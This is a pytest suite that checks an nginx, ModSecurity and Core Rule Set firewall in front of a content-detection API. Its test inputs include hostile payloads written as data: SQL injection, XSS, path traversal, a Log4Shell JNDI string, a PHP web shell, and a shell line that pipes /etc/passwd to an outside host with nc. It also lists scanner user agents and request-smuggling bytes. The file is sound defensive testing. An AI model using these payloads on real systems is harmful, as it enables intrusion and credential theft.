"""nginx, ModSecurity and the Core Rule Set as we configure them, before the real orchestrate."""

import json
import socket
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import quote

import httpx
import pytest

from tests.fakes.edge import Edge, edge, missing
from tests.fakes.front_door import front_door
from tests.fakes.services import standing

pytestmark = [pytest.mark.slow, pytest.mark.skipif(missing() is not None, reason=str(missing()))]
PATH = "/api/v1/orchestrate"
HEADERS = {"X-Tenant-ID": "demo", "Host": "localhost"}
CANARY = "canary-9133"
SQL, SCRIPT, FILE = "1' UNION SELECT password FROM users--", "<script>alert(1)</script>", "../../../../etc/passwd"
SHELL, JNDI, PHP = "; cat /etc/passwd | nc 10.0.0.1 99", "${jndi:ldap://10.0.0.1/a}", "<?php system($_GET['c']); ?>"
ATTACKS = (SQL, SCRIPT, FILE, SHELL, JNDI, PHP)


@pytest.fixture(scope="module")
def ways() -> Iterator[tuple[Edge, int]]:
    """The edge, and the port of the orchestrate behind it."""
    with standing() as services, front_door(services.url) as upstream, edge(upstream, limited=False) as started:
        yield started, upstream


@pytest.fixture
def client(ways: tuple[Edge, int]) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=ways[0].url, headers=HEADERS, timeout=30) as client:
        yield client


def problem(answer: httpx.Response, status: int) -> dict[str, object]:
    assert answer.status_code == status, answer.text
    assert answer.headers["content-type"] == "application/problem+json"
    document: dict[str, object] = answer.json()
    assert document["status"] == status
    assert document["correlation_id"] == answer.headers["x-correlation-id"]
    return document


@pytest.mark.parametrize(
    ("method", "path"), [("GET", "/health"), ("GET", "/api/v1/detectors"), ("GET", "/openapi.json"), ("GET", "/ready")]
)
def test_ordinary_requests_pass(client: httpx.Client, method: str, path: str) -> None:
    assert client.request(method, path).status_code == 200


@pytest.mark.parametrize("attack", [*ATTACKS, " ".join(ATTACKS * 20)])
def test_an_attack_in_content_reaches_the_detectors(client: httpx.Client, attack: str) -> None:
    content = f"{attack} someone@example.org"
    one = client.post(PATH, json={"content": content, "detector_types": ["words"]})
    assert (one.status_code, [f["label"] for f in one.json()["findings"]]) == (200, ["PII.Contact.Email"]), one.text
    batch = client.post(PATH + "/batch", json={"items": [{"content": content, "detector_types": ["words"]}]})
    assert [item["status"] for item in batch.json()["results"]] == [200]
    assert client.post("/v1/moderations", json={"input": content}).status_code == 200


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("place", ["query", "header", "field", "value", "path"])
def test_the_same_attack_anywhere_else_is_refused(client: httpx.Client, attack: str, place: str) -> None:
    body: dict[str, object] = {"content": "hello", "detector_types": ["words"]}
    if place == "query":
        answer = client.get("/api/v1/detectors", params={"family": f"{attack}{CANARY}"})
    elif place == "header":
        answer = client.post(PATH, json=body, headers={"X-Tenant-ID": f"{attack}{CANARY}"})
    elif place == "field":
        answer = client.post(PATH, json=body | {"metadata": {"route": f"{attack}{CANARY}"}})
    elif place == "value":
        answer = client.post("/api/v1/policies/validate", json={"name": f"{attack}{CANARY}"})
    else:
        answer = client.get(f"/api/v1/detectors/{quote(attack, safe='')}{CANARY}/health")
    refused = 400 if (place, attack) == ("path", FILE) else 403  # nginx itself knows no address above the root
    assert problem(answer, refused)["error_code"] == "INVALID_REQUEST"
    assert CANARY not in answer.text


@pytest.mark.parametrize("agent", ["sqlmap/1.8", "Nikto/2.5", "Mozilla/5.0 (Nessus)", "masscan/1.3", "nuclei"])
def test_scanners_are_refused(client: httpx.Client, agent: str) -> None:
    problem(client.get("/health", headers={"User-Agent": agent}), 403)


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({"X-HTTP-Method-Override": "DELETE"}, 403),
        ({"Content-Type": "text/xml"}, 403),
        ({"Content-Type": "application/json; charset=ibm037"}, 403),
        ({"Content-Encoding": "gzip"}, 403),
        ({"Proxy": "http://10.0.0.1"}, 403),
    ],
    ids=lambda value: str(value)[:40],
)
def test_attacks_on_the_protocol_are_refused(client: httpx.Client, headers: dict[str, str], status: int) -> None:
    problem(
        client.post(PATH, content=b'{"content": "hello"}', headers={"Content-Type": "application/json"} | headers),
        status,
    )


@pytest.mark.parametrize("method", ["TRACE", "CONNECT", "PROPFIND", "CANARY"])
def test_methods_that_nobody_serves_are_refused(client: httpx.Client, method: str) -> None:
    assert client.request(method, "/health").status_code in (400, 403, 405)


@pytest.mark.parametrize(
    "sent",
    [
        b"POST /health HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"GET /health HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: xchunked\r\n\r\n",
        b"GET /api/../../etc/passwd HTTP/1.1\r\nHost: localhost\r\n\r\n",
        b"GET /health HTTP/1.1\r\n\r\n",
        b"GET /" + b"a" * 20_000 + b" HTTP/1.1\r\nHost: localhost\r\n\r\n",
        b"GET /health HTTP/1.1\r\nHost: localhost\r\nX-Long: " + b"a" * 40_000 + b"\r\n\r\n",
    ],
    ids=["length and chunks", "unknown coding", "path above the root", "no host", "long address", "long header"],
)
def test_what_is_no_request_is_refused_as_a_problem(ways: tuple[Edge, int], sent: bytes) -> None:
    with socket.create_connection(("127.0.0.1", ways[0].port), timeout=30) as wire:
        wire.sendall(sent)
        received = wire.recv(65_536)
    assert received.split()[1] in (b"400", b"403", b"414", b"501"), received[:300]
    assert b"Server: nginx\r" in received
    if received.split()[1] != b"501":
        assert b"application/problem+json" in received


def test_a_body_over_the_limit_is_refused_and_one_under_it_passes(client: httpx.Client) -> None:
    over = client.post(PATH, content=b"a" * 1_100_000, headers={"Content-Type": "application/json"})
    assert problem(over, 413)["error_code"] == "CONTENT_TOO_LARGE"
    items = [{"content": "a" * 9_000, "detector_types": ["words"]}] * 100
    assert client.post(PATH + "/batch", json={"items": items}).status_code == 200


def test_a_stream_is_answered_while_it_is_sent(ways: tuple[Edge, int]) -> None:
    head = (
        f"POST {PATH}/stream HTTP/1.1\r\nHost: localhost\r\nX-Tenant-ID: demo\r\n"
        "Content-Type: application/x-ndjson\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    text = f"{' '.join(ATTACKS)} Write to someone@example.org and to nobody else, please. " * 5
    with socket.create_connection(("127.0.0.1", ways[0].port), timeout=30) as wire:
        wire.sendall(head.encode() + _chunk({"detector_types": ["words"]}) + _chunk({"chunk": text}))
        received = b""
        while b'"type":"verdict"' not in received:  # before the end is sent; a wait for it would end by the timeout
            received += (more := wire.recv(65_536))
            assert more, received
        assert received.startswith(b"HTTP/1.1 200 ")
        assert b'"final"' not in received
        wire.sendall(_chunk({"end": True}) + b"0\r\n\r\n")
        while b'"type":"final"' not in received:
            received += (more := wire.recv(65_536))
            assert more, received


@pytest.mark.parametrize(
    ("headers", "query"),
    [
        ({"X-Tenant-ID": f"{SQL}{CANARY}"}, ""),
        ({"User-Agent": "sqlmap/1.8"}, ""),
        ({"X-HTTP-Method-Override": "DELETE"}, ""),
        ({"Content-Type": "text/xml"}, ""),
        ({"Content-Encoding": "gzip"}, ""),
        ({}, "?a=1"),
    ],
    ids=lambda value: str(value)[:30],
)
@pytest.mark.parametrize("path", [f"{PATH}/stream", f"{PATH}/batch", "/v1/moderations"])
def test_where_the_body_is_not_looked_at_all_else_is(
    client: httpx.Client, headers: dict[str, str], query: str, path: str
) -> None:
    body, kind = b'{"items": [{"content": "hello"}]}', "application/json"
    if path.endswith("stream"):
        body, kind = b'{}\n{"chunk": "hello"}\n{"end": true}\n', "application/x-ndjson"
    answer = client.post(f"{path}{query}", content=body, headers={"Content-Type": kind} | headers)
    problem(answer, 403)
    assert CANARY not in answer.text


@pytest.mark.parametrize("chunked", [True, False])
def test_a_stream_may_be_sent_with_and_without_its_length(client: httpx.Client, chunked: bool) -> None:
    lines = [b'{"detector_types": ["words"]}\n', b'{"chunk": "' + b"hello " * 3000 + b'"}\n', b'{"end": true}\n']
    lines[1:2] = lines[1:2] * 2
    content = iter(lines) if chunked else b"".join(lines)
    answer = client.post(f"{PATH}/stream", content=content, headers={"Content-Type": "application/x-ndjson"})
    assert (answer.status_code, '"final"' in answer.text) == (200, True), answer.text[-300:]


def _chunk(line: dict[str, object]) -> bytes:
    data = json.dumps(line).encode() + b"\n"
    return f"{len(data):x}\r\n".encode() + data + b"\r\n"


def test_what_the_caller_says_of_where_it_comes_from_is_not_handed_on(client: httpx.Client) -> None:
    headers = {"X-Forwarded-For": "10.9.8.7", "X-Original-URL": "/metrics", "Forwarded": "for=10.9.8.7"}
    assert client.get("/health", headers=headers).json() == {"status": "ok"}


def test_an_address_that_asks_too_often_is_told_so() -> None:
    with (
        standing() as services,
        front_door(services.url) as upstream,
        edge(upstream) as started,
        httpx.Client(base_url=started.url, headers=HEADERS) as client,
        ThreadPoolExecutor(8) as threads,
    ):
        answers = list(threads.map(lambda _: client.get("/health"), range(400)))
    refused = [answer for answer in answers if answer.status_code != 200]
    assert len(answers) - len(refused) >= 100
    assert refused
    document = problem(refused[0], 429)
    assert (document["error_code"], document["retryable"]) == ("RATE_LIMITED", True)
    assert refused[0].headers["retry-after"] == "1"


def test_refusals_are_logged_without_anything_that_was_sent(ways: tuple[Edge, int], client: httpx.Client) -> None:
    client.post(PATH, json={"content": f"{SQL} {CANARY}", "detector_types": ["words"]})
    client.post(PATH, json={"content": "a", "metadata": {"a": f"{SQL} {CANARY}"}})
    client.get("/api/v1/detectors", params={"a": f"{SQL} {CANARY}"}, headers={"X-API-Key": CANARY, "Referer": SCRIPT})
    client.get(f"/api/v1/jobs/{CANARY}{SCRIPT}")
    client.post(
        PATH, content=b'{"content": "' + CANARY.encode() + b'" broken', headers={"Content-Type": "application/json"}
    )
    client.post(PATH, content=CANARY.encode() * 200_000, headers={"Content-Type": "application/json"})
    logged = ways[0].logged()
    assert CANARY not in logged
    lines = [json.loads(line) for line in logged.splitlines() if line.startswith("{")]
    assert {403, 400} <= {line["status"] for line in lines}
    assert {"time", "request_id", "address", "path", "status", "bytes", "seconds"} == set(lines[-1])
    assert any(line["status"] == 403 and line["path"] == PATH for line in lines)
